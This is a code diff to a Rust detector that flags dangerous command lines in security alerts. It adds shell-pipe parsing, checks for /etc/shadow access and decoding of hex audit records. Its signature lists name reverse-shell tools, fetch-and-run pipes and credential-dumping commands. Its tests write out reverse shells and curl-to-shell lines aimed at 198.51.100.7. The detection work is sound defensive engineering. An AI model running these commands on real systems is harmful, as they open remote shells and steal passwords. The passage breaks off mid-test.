@@ -9,11 +9,7 @@ use alert::{Alert, Class, Untrusted};
 
 use crate::template;
 
-/// Longest command line that is looked at, in bytes. Longer ones are scripts written out, and say what they are at their head.
-const COMMAND_BYTES_MAX: usize = 4096;
-
-/// Most arguments of an audited command that are put together.
-const ARGUMENTS_MAX: usize = 24;
+mod line;
 
 /// How sure one sign is, 1 to 100. Not so sure that an analyst could not call it a test of the defences, or an administrator's odd habit.
 const STRENGTH: u8 = 45;
@@ -21,9 +17,14 @@ const STRENGTH: u8 = 45;
 /// Longest piece of a command that is shown, in bytes.
 const FRAGMENT_BYTES_MAX: usize = 160;
 
-/// Where command lines are, as one text.
-const LINES: &[&str] =
-    &["data.command", "data.win.eventdata.commandLine", "data.audit.proctitle", "data.cmd"];
+/// Groups of rules which say that somebody was not let do what he asked for: the command did not run.
+const REFUSING_GROUPS: &[&str] = &[
+    "authentication_failed",
+    "authentication_failures",
+    "invalid_login",
+    "login_denied",
+    "access_denied",
+];
 
 /// Words that must all be in a command line, in lower case, and what they say together. A word does not begin inside another word.
 const SIGNS: &[(&[&str], &str)] = &[
@@ -37,10 +38,6 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["ncat ", "--exec"], HANDS_A_SHELL),
     (&["socat ", "exec:"], HANDS_A_SHELL),
     (&["mkfifo ", "nc "], HANDS_A_SHELL),
-    (&["curl ", "| sh"], RUNS_FROM_ELSEWHERE),
-    (&["curl ", "|sh"], RUNS_FROM_ELSEWHERE),
-    (&["wget ", "| sh"], RUNS_FROM_ELSEWHERE),
-    (&["wget ", "|sh"], RUNS_FROM_ELSEWHERE),
     (&["downloadstring", "iex"], RUNS_FROM_ELSEWHERE),
     (&["downloadstring", "invoke-expression"], RUNS_FROM_ELSEWHERE),
     (&["certutil", "-urlcache", "http"], RUNS_FROM_ELSEWHERE),
@@ -49,9 +46,6 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["powershell", "hidden", " -enc"], HIDES_WHAT_RUNS),
     (&["powershell", "-nop", " -enc"], HIDES_WHAT_RUNS),
     (&["powershell", "hidden", "frombase64string"], HIDES_WHAT_RUNS),
-    (&["base64 -d", "| sh"], HIDES_WHAT_RUNS),
-    (&["base64 -d", "| bash"], HIDES_WHAT_RUNS),
-    (&["base64 -d", "|bash"], HIDES_WHAT_RUNS),
     (&["comsvcs", "minidump"], TAKES_PASSWORDS),
     (&["procdump", "lsass"], TAKES_PASSWORDS),
     (&["sekurlsa"], TAKES_PASSWORDS),
@@ -59,7 +53,6 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["ntdsutil", "ifm"], TAKES_PASSWORDS),
     (&["reg", " save ", "hklm\\sam"], TAKES_PASSWORDS),
     (&["reg", " save ", "hklm\\security"], TAKES_PASSWORDS),
-    (&["/etc/shadow"], TAKES_PASSWORDS),
     (&["vssadmin", "delete", "shadows"], REMOVES_WAYS_BACK),
     (&["wmic", "shadowcopy", "delete"], REMOVES_WAYS_BACK),
     (&["bcdedit", "recoveryenabled", "no"], REMOVES_WAYS_BACK),
@@ -76,28 +69,91 @@ const TAKES_PASSWORDS: &str = "the command takes stored passwords";
 const REMOVES_WAYS_BACK: &str = "the command removes the ways back to saved data";
 const REMOVES_TRACES: &str = "the command removes traces or switches off a defence";
 
-/// Looks at the command that an alert reports, if it reports one.
+/// What is dangerous only if a shell takes it through a pipe.
+const PIPED: &[(&str, &str)] = &[
+    ("curl ", RUNS_FROM_ELSEWHERE),
+    ("wget ", RUNS_FROM_ELSEWHERE),
+    ("base64 -d", HIDES_WHAT_RUNS),
+    ("base64 --decode", HIDES_WHAT_RUNS),
+];
+
+/// Programs that run what they are given.
+const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "ksh", "zsh"];
+
+/// Programs that run another one, whose name follows theirs.
+const WRAPPERS: &[&str] = &["sudo", "env", "nohup", "exec"];
+
+/// Where Linux keeps passwords.
+const PASSWORDS: &str = "/etc/shadow";
+
+/// Programs that look at a file from outside only. Checks of how a machine is set up do so every day.
+const ONLOOKERS: &[&str] = &["stat", "ls", "test", "[", "getfacl", "lsattr", "namei"];
+
+/// Looks at the command that an alert reports, if it reports one that ran.
 pub(super) fn telling(alert: &Alert, class: Class) -> Option<Finding> {
     // Elsewhere a command stands in a text about something else: a request, a mail.
     if class.is_web_exploit() || alert.first_field(&["data.url", "data.http.url"]).is_some() {
         return None;
     }
-    let line = alert
-        .first_field(LINES)
-        .map(|line| template::head(line, COMMAND_BYTES_MAX).to_owned())
-        .or_else(|| audited(alert))?;
-    let lower = line.to_lowercase();
-    let (words, reason) =
-        SIGNS.iter().find(|(words, _)| words.iter().all(|word| place(&lower, word).is_some()))?;
-    let at = words.first().and_then(|word| place(&lower, word)).unwrap_or(0);
-    // Lower case may have other lengths: the piece shown is of the text that was searched.
-    let fragment = template::head(lower.get(at..).unwrap_or(&lower), FRAGMENT_BYTES_MAX);
+    if alert.rule.groups.iter().any(|group| REFUSING_GROUPS.contains(&group.trim())) {
+        return None;
+    }
+    let (fragment, reason) = line::all(alert).iter().find_map(|line| {
+        let (at, reason) = sign(line)?;
+        let fragment = template::head(line.get(at..).unwrap_or(line), FRAGMENT_BYTES_MAX);
+        Some((Untrusted::new(fragment), reason))
+    })?;
     Some(Finding {
         class: Class::CommandExecution,
         strength: STRENGTH,
         parameter: None,
-        fragment: Untrusted::new(fragment),
-        reason: (*reason).to_owned(),
+        fragment,
+        reason: reason.to_owned(),
+    })
+}
+
+/// Finds a sign in a command line, and where it begins.
+fn sign(line: &str) -> Option<(usize, &'static str)> {
+    let by_words = SIGNS.iter().find_map(|(words, reason)| {
+        let all = words.iter().all(|word| place(line, word).is_some());
+        words.first().filter(|_| all).and_then(|word| Some((place(line, word)?, *reason)))
+    });
+    let by_pipe = || {
+        PIPED.iter().find_map(|(word, reason)| {
+            let at = place(line, word)?;
+            // `a || b` runs b if a fails; nothing goes from one to the other.
+            let rest = line.get(at..)?.replace("||", ";");
+            let mut piped = rest.split('|').skip(1);
+            piped.any(|part| SHELLS.contains(&program(part, WRAPPERS))).then_some((at, *reason))
+        })
+    };
+    by_words.or_else(by_pipe).or_else(|| Some((passwords(line)?, TAKES_PASSWORDS)))
+}
+
+/// Names the program that a piece of a command line runs, without its folder; `skipped` are those that only run another one.
+fn program<'a>(part: &'a str, skipped: &[&str]) -> &'a str {
+    let names = part.split([' ', '\'', '"', '&', ';', ')']).filter(|word| !word.is_empty());
+    names
+        // Options of the program that was skipped (`sudo -E`, `sh -c`), and what it sets (`env A=1`).
+        .filter(|word| !word.starts_with('-') && !word.contains('='))
+        .map(|word| word.rsplit('/').next().unwrap_or(word))
+        .find(|name| !skipped.contains(name))
+        .unwrap_or_default()
+}
+
+/// Finds where the file of passwords, or the copy that is kept of it, is named by a program that may open it.
+fn passwords(line: &str) -> Option<usize> {
+    line.match_indices(PASSWORDS).map(|(at, _)| at).find(|at| {
+        let rest = line.get(at + PASSWORDS.len()..).unwrap_or_default();
+        let after = rest.strip_prefix('-').unwrap_or(rest).chars().next();
+        // `/etc/shadowsocks` is something else.
+        if after.is_some_and(|after| after.is_ascii_alphanumeric() || after == '_') {
+            return false;
+        }
+        let before = line.get(..*at).unwrap_or_default();
+        let part = before.rsplit(['|', ';', '&', '(', '`', '<', '>']).next().unwrap_or_default();
+        let is_skipped: Vec<&str> = WRAPPERS.iter().chain(SHELLS).copied().collect();
+        !ONLOOKERS.contains(&program(part, &is_skipped))
     })
 }
 
@@ -111,23 +167,9 @@ fn place(line: &str, word: &str) -> Option<usize> {
     line.match_indices(word).map(|(at, _)| at).find(is_whole)
 }
 
-/// Puts the arguments of an audited command together.
-fn audited(alert: &Alert) -> Option<String> {
-    let mut line = String::new();
-    for number in 0..ARGUMENTS_MAX {
-        let Some(argument) = alert.field(&format!("data.audit.execve.a{number}")) else { break };
-        if line.len() > COMMAND_BYTES_MAX {
-            break;
-        }
-        line.push_str(argument);
-        line.push(' ');
-    }
-    (!line.is_empty()).then(|| template::head(&line, COMMAND_BYTES_MAX).to_owned())
-}
-
 #[cfg(test)]
 mod tests {
-    use alert::{Alert, Limits};
+    use alert::{Alert, Class, Limits};
     use serde_json::{Value, json};
 
     use crate::observe::observe;
@@ -137,6 +179,13 @@ mod tests {
             "rule": {"id": "5402", "level": 3, "description": "run as root", "groups": ["syslog", "sudo"]},
             "agent": {"id": "1", "name": "a"}, "decoder": {"name": "sudo"},
             "data": {"srcuser": "bob", "dstuser": "root", "command": command},
+        })
+    }
+
+    fn audited(audit: Value) -> Value {
+        json!({
+            "rule": {"id": "80792", "level": 3, "description": "a command", "groups": ["audit", "audit_command"]},
+            "agent": {"id": "1", "name": "a"}, "data": {"audit": audit},
         })
     }
 
@@ -154,6 +203,11 @@ mod tests {
             "/usr/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'",
             "/usr/bin/python3 -c import socket,os;s=socket.socket();s.connect(('h',9));os.dup2(s.fileno(),0)",
             "/bin/sh -c curl -s http://198.51.100.7/a | sh",
+            "/bin/sh -c curl -s http://198.51.100.7/a | bash",
+            "sh -c 'wget -qO- http://198.51.100.7/a|sudo -E /bin/bash -'",
+            "sh -c 'echo aWQ= | base64 -d |bash'",
+            "sh -c 'stat /etc/shadow; cat /etc/shadow'",
+            "cat /etc/shadow-",
             "powershell.exe -nop -w hidden -enc SQBFAFgA",
             "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full",
         ] {
@@ -167,19 +221,58 @@ mod tests {
             "/usr/bin/tar czf /srv/backup.tgz /etc",
             "powershell.exe -ExecutionPolicy Bypass -File C:\\install.ps1",
             "/usr/bin/rsync -e ssh a b",
+            "/bin/sh -c curl -s https://example.org/a | sha256sum",
+            "/bin/sh -c curl -sf https://example.org/health || sh /opt/restart.sh",
+            "/usr/bin/stat -c %a /etc/shadow",
+            "/bin/sh -c 'ls -l /etc/shadow /etc/shadow-'",
+            "/usr/bin/cat /etc/shadowsocks-libev/config.json",
         ] {
             assert_eq!(told(&sudo(command)), ("5402".to_owned(), None), "{command}");
         }
     }
 
     #[test]
+    fn padding_hides_no_command() {
+        let shell = "bash -i >& /dev/tcp/198.51.100.7/9 0>&1";
+        assert!(told(&sudo(&format!("bash -c '{}{shell}'", " ".repeat(5000)))).1.is_some());
+        assert!(told(&sudo(&format!("bash -c '# {} \n{shell}'", "x".repeat(9000)))).1.is_some());
+        let mut words = vec!["true"; 30];
+        words.push("/dev/tcp/198.51.100.7/9");
+        let named = words.iter().enumerate().map(|(at, word)| (format!("a{at}"), json!(word)));
+        let arguments: serde_json::Map<String, Value> = named.collect();
+        assert!(told(&audited(json!({"execve": arguments}))).1.is_some());
+    }
+
+    #[test]
+    fn what_the_kernel_wrote_as_digits_is_found_beside_what_says_nothing() {
+        let digits =
+            |text: &str| text.bytes().map(|byte| format!("{byte:02X}")).collect::<String>();
+        let shell = digits("bash -i >& /dev/tcp/198.51.100.7/9 0>&1");
+        let arguments = json!({"a0": "bash", "a1": "-c", "a2": shell});
+        assert!(told(&audited(json!({"execve": arguments}))).1.is_some());
+        let title = digits("cat\0/etc/shadow");
+        assert!(told(&audited(json!({"proctitle": title}))).1.is_some());
+        // The first text says nothing, the second does.
+        assert!(told(&audited(json!({"proctitle": "bash", "execve": arguments}))).1.is_some());
+        let harmless = json!({"a0": "echo", "a1": digits("two words")});
+        assert_eq!(told(&audited(json!({"execve": harmless}))).1, None);
+    }
+
+    #[test]
+    fn a_command_that_was_refused_did_not_run() {
+        let mut refused = sudo("/usr/bin/cat /etc/shadow");
+        refused["rule"]["groups"] = json!(["syslog", "sudo", "authentication_failed"]);
+        let alert = Alert::parse(refused.to_string().as_bytes(), &Limits::default());
+        let seen = observe(&alert.expect("an alert"));
+        assert_eq!((seen.class, seen.finding), (Class::BruteForce, None));
+    }
+
+    #[test]
     fn what_the_audit_log_has_in_pieces_is_one_command_and_a_request_is_none() {
-        let audited = json!({
-            "rule": {"id": "80792", "level": 3, "description": "a command", "groups": ["audit", "audit_command"]},
-            "agent": {"id": "1", "name": "a"},
-            "data": {"audit": {"exe": "/usr/bin/bash", "execve": {"a0": "sh", "a1": "-c", "a2": "wget -qO- http://h/x |sh"}}},
-        });
-        assert!(told(&audited).1.is_some());
+        // `wget http://h/x |sh`
+        let digits = "7767657420687474703A2F2F682F78207C7368";
+        let fetched = json!({"a0": "sh", "a1": "-c", "a2": digits});
+        assert!(told(&audited(json!({"exe": "/usr/bin/bash", "execve": fetched}))).1.is_some());
         let request = json!({
             "rule": {"id": "31101", "level": 5, "description": "x", "groups": ["web"]},
             "agent": {"id": "1", "name": "a"},
